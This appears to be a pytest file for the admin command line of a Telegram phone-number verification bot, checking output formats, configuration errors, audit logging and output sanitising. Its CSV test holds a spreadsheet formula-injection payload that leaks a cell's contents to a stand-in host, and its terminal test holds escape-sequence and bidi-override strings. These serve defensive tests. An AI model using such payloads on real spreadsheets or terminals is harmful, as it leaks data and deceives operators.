"""The admin command line, run as operators run it: `python -m bot ...` in a subprocess."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import UTC, datetime

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.db.models import AuthEvent, VerifiedUser
from bot.demo.sandbox import FakeVerify
from tests.helpers import HASH_KEY, Chat, login, run_cli


async def test_users_list_json_has_the_scripted_keys(
    chat: Chat, verify: FakeVerify, database_url: str, db: async_sessionmaker[AsyncSession]
) -> None:
    await login(chat, verify)
    result = run_cli("users", "list", "--json", env={"DATABASE_URL": database_url})
    assert result.returncode == 0, result.stderr
    rows = json.loads(result.stdout)
    assert len(rows) == 1
    row = rows[0]
    assert row["chat_id"] == chat.id
    assert row["user_id"] == chat.id
    assert row["phone_number"] == "+447400123123"
    assert datetime.fromisoformat(row["verified_at"]).tzinfo is not None


async def test_users_list_table_lists_only_current_logins(
    chat: Chat, verify: FakeVerify, database_url: str
) -> None:
    await login(chat, verify)
    table = run_cli("users", "list", env={"DATABASE_URL": database_url})
    assert table.returncode == 0, table.stderr
    lines = table.stdout.splitlines()
    assert lines[0].split() == [
        "PHONE",
        "NUMBER",
        "CHAT",
        "ID",
        "USER",
        "ID",
        "NAME",
        "VERIFIED",
        "AT",
        "(UTC)",
    ]
    assert lines[1].split()[:3] == ["+447400123123", str(chat.id), str(chat.id)]
    assert lines[-1] == "(1 logged in)"

    await chat.say("/logout")
    after = run_cli("users", "list", "--json", env={"DATABASE_URL": database_url})
    assert json.loads(after.stdout) == []


def test_users_list_needs_only_the_database_url(tmp_path: object) -> None:
    result = run_cli(
        "users", "list", "--json", env={"DATABASE_URL": "sqlite+aiosqlite:////nonexistent/dir/x.db"}
    )
    assert result.returncode == 1
    assert "cannot read the database" in result.stderr
    assert "Traceback" not in result.stderr


def test_bad_settings_stop_the_bot_with_one_line_and_status_2() -> None:
    cases = {
        "TELEGRAM_BOT_TOKEN is missing": {},
        "VONAGE_API_KEY is missing": {"TELEGRAM_BOT_TOKEN": "1:x"},
        "VONAGE_BRAND is invalid": {
            "TELEGRAM_BOT_TOKEN": "1:x",
            "VONAGE_API_KEY": "k",
            "VONAGE_API_SECRET": "s",
            "VONAGE_BRAND": "A brand far too long",
        },
        "BOT_ADMIN_IDS is invalid": {
            "TELEGRAM_BOT_TOKEN": "1:x",
            "VONAGE_API_KEY": "k",
            "VONAGE_API_SECRET": "s",
            "BOT_ADMIN_IDS": "12,bob",
        },
        "DATABASE_URL is invalid": {
            "TELEGRAM_BOT_TOKEN": "1:x",
            "VONAGE_API_KEY": "k",
            "VONAGE_API_SECRET": "s",
            "DATABASE_URL": "mysql://x",
        },
        "VONAGE_PRIVATE_KEY is needed": {
            "TELEGRAM_BOT_TOKEN": "1:x",
            "VONAGE_APPLICATION_ID": "app",
        },
        "VERIFY_CODE_LENGTH is invalid": {
            "TELEGRAM_BOT_TOKEN": "1:x",
            "VONAGE_API_KEY": "k",
            "VONAGE_API_SECRET": "supersecret",
            "VERIFY_CODE_LENGTH": "4",
            "NUMBER_HASH_KEY": HASH_KEY,
        },
        "NUMBER_HASH_KEY is missing": {
            "TELEGRAM_BOT_TOKEN": "1:x",
            "VONAGE_API_KEY": "k",
            "VONAGE_API_SECRET": "supersecret",
        },
        "NUMBER_HASH_KEY is invalid: too short (11 bytes)": {
            "TELEGRAM_BOT_TOKEN": "1:x",
            "VONAGE_API_KEY": "k",
            "VONAGE_API_SECRET": "supersecret",
            "NUMBER_HASH_KEY": "short-value",
        },
    }
    for expected, env in cases.items():
        result = run_cli(env=env)
        assert result.returncode == 2, (expected, result.stderr)
        first = result.stderr.splitlines()[0]
        assert first.startswith(f"Configuration error: {expected}"), (expected, first)
        assert "Traceback" not in result.stderr
        assert "supersecret" not in result.stderr


async def test_commands_that_hash_numbers_refuse_to_run_without_the_bots_key(
    chat: Chat, verify: FakeVerify, database_url: str
) -> None:
    await login(chat, verify)
    for key in ({}, {"NUMBER_HASH_KEY": "too-short"}):
        env = {"DATABASE_URL": database_url, **key}
        result = run_cli("users", "show", "+447400123123", env=env)
        assert result.returncode == 2, result.stderr
        assert result.stdout == ""  # nothing about the number is shown
        (line,) = result.stderr.splitlines()
        assert line.startswith("Configuration error: NUMBER_HASH_KEY is "), line
        assert "secrets.token_hex(32)" in line

    shown = run_cli(
        "users",
        "show",
        "+447400123123",
        env={"DATABASE_URL": database_url, "NUMBER_HASH_KEY": HASH_KEY},
    )
    assert shown.returncode == 0, shown.stderr


async def _add_user(
    db: async_sessionmaker[AsyncSession], chat_id: int, full_name: str, number: str
) -> None:
    async with db.begin() as session:
        session.add(
            VerifiedUser(
                chat_id=chat_id,
                user_id=chat_id,
                phone_number=number,
                username=None,
                full_name=full_name,
                verified_at=datetime(2026, 1, 1, chat_id % 24, tzinfo=UTC),
            )
        )


async def _lookups(db: async_sessionmaker[AsyncSession]) -> list[AuthEvent]:
    async with db() as session:
        query = select(AuthEvent).where(AuthEvent.event == "admin_lookup").order_by(AuthEvent.id)
        return list((await session.execute(query)).scalars().all())


async def test_every_command_line_view_of_numbers_is_an_audited_lookup(
    chat: Chat, verify: FakeVerify, database_url: str, db: async_sessionmaker[AsyncSession]
) -> None:
    await login(chat, verify)
    env = {"DATABASE_URL": database_url, "NUMBER_HASH_KEY": HASH_KEY}
    views = [
        ("users", "list"),
        ("users", "list", "--csv"),
        ("users", "list", "--json"),
        ("users", "list", "--jsonl"),
        ("users", "show", str(chat.id)),
        ("events",),
        ("events", "--json"),
        ("events", "--jsonl", "--chat", str(chat.id)),
    ]
    for args in views:
        result = run_cli(*args, env=env)
        assert result.returncode == 0, (args, result.stderr)
    lookups = await _lookups(db)
    assert len(lookups) == len(views)
    assert all(e.detail and e.detail.startswith("by cli") for e in lookups)
    details = [(e.detail or "").partition(": ")[2] for e in lookups]
    assert details == ["users list"] * 4 + ["chat", "events", "events", "events"]
    assert [e.chat_id for e in lookups][4:] == [chat.id, 0, 0, chat.id]


async def test_csv_export_neutralises_formulas_but_keeps_the_number(
    database_url: str, db: async_sessionmaker[AsyncSession]
) -> None:
    names = {
        1: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        2: "+SUM(1,2)",
        3: "-2+3",
        4: "@SUM(A1)",
        5: "\tTab",
        6: "\rReturn",
        7: "Ada = plain",
    }
    for chat_id, name in names.items():
        await _add_user(db, chat_id, name, f"+4474001000{chat_id:02d}")
    result = run_cli("users", "list", "--csv", env={"DATABASE_URL": database_url})
    assert result.returncode == 0, result.stderr
    rows = {int(row["chat_id"]): row for row in csv.DictReader(io.StringIO(result.stdout))}
    for chat_id, name in names.items():
        expected = name if chat_id == 7 else "'" + name
        assert rows[chat_id]["full_name"] == expected, chat_id
        # Our own E.164 numbers (a plus and digits: a number, never a formula) stay as they are.
        assert rows[chat_id]["phone_number"] == f"+4474001000{chat_id:02d}"


async def test_text_output_never_passes_terminal_controls_or_bidi_overrides(
    database_url: str, db: async_sessionmaker[AsyncSession]
) -> None:
    names = {
        41: "\x1b]0;pwned\x07\x1b[2J\nfake row",  # retitle and clear the terminal; forge a row
        42: "Eve\u202etxt.exe\u2066",  # shows as "Eveexe.txt": bidi override and isolate
        43: "\x9b31mC1",  # CSI as a single C1 control
    }
    for chat_id, name in names.items():
        await _add_user(db, chat_id, name, f"+4474001000{chat_id:02d}")
    env = {"DATABASE_URL": database_url, "NUMBER_HASH_KEY": HASH_KEY}
    outputs = [run_cli("users", "list", env=env)]
    outputs += [run_cli("users", "show", str(chat_id), env=env) for chat_id in names]
    for result in outputs:
        assert result.returncode == 0, result.stderr
        unsafe = [
            char
            for char in result.stdout
            if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")
        ]
        assert unsafe == [], result.args
    table, *shown = (result.stdout for result in outputs)
    assert len(table.splitlines()) == 1 + len(names) + 1  # the newline forged no row
    # Escaped, not dropped: the operator sees that something was there.
    for text in (table, shown[0]):
        assert "\\x1b]0;pwned\\x07\\x1b[2J\\nfake" in text
    for text in (table, shown[1]):
        assert "Eve\\u202etxt.exe\\u2066" in text
    for text in (table, shown[2]):
        assert "\\x9b31mC1" in text


async def test_json_is_an_array_and_jsonl_one_object_per_line_on_every_command(
    chat: Chat, verify: FakeVerify, database_url: str
) -> None:
    await login(chat, verify)
    env = {"DATABASE_URL": database_url}

    def lines(*args: str) -> list[dict[str, object]]:
        result = run_cli(*args, env=env)
        assert result.returncode == 0, result.stderr
        return [json.loads(line) for line in result.stdout.splitlines()]

    def array(*args: str) -> list[dict[str, object]]:
        result = run_cli(*args, env=env)
        assert result.returncode == 0, result.stderr
        parsed = json.loads(result.stdout)
        assert isinstance(parsed, list), args
        return parsed

    users = array("users", "list", "--json")
    assert [u["phone_number"] for u in users] == ["+447400123123"]
    assert lines("users", "list", "--jsonl") == users

    events = array("events", "--chat", str(chat.id), "--json")
    assert [e["event"] for e in events][:3] == ["login_started", "code_sent", "verified"]
    later = lines("events", "--chat", str(chat.id), "--jsonl")
    # The same trail, plus the lookup that the `--json` listing itself recorded.
    assert later[: len(events)] == events
    assert [e["event"] for e in later[len(events) :]] == ["admin_lookup"]
    # A listing shows the trail as it was when asked, without its own lookup.
    assert array("events", "--chat", "999", "--json") == []

    stats = run_cli("stats", "--days", "1", "--json", env=env)
    assert json.loads(stats.stdout)["total"]["verified"] == 1
    (one,) = lines("stats", "--days", "1", "--jsonl")
    assert one == json.loads(stats.stdout)
    both = run_cli("events", "--json", "--jsonl", env=env)
    assert both.returncode == 2
    assert "not allowed with argument" in both.stderr
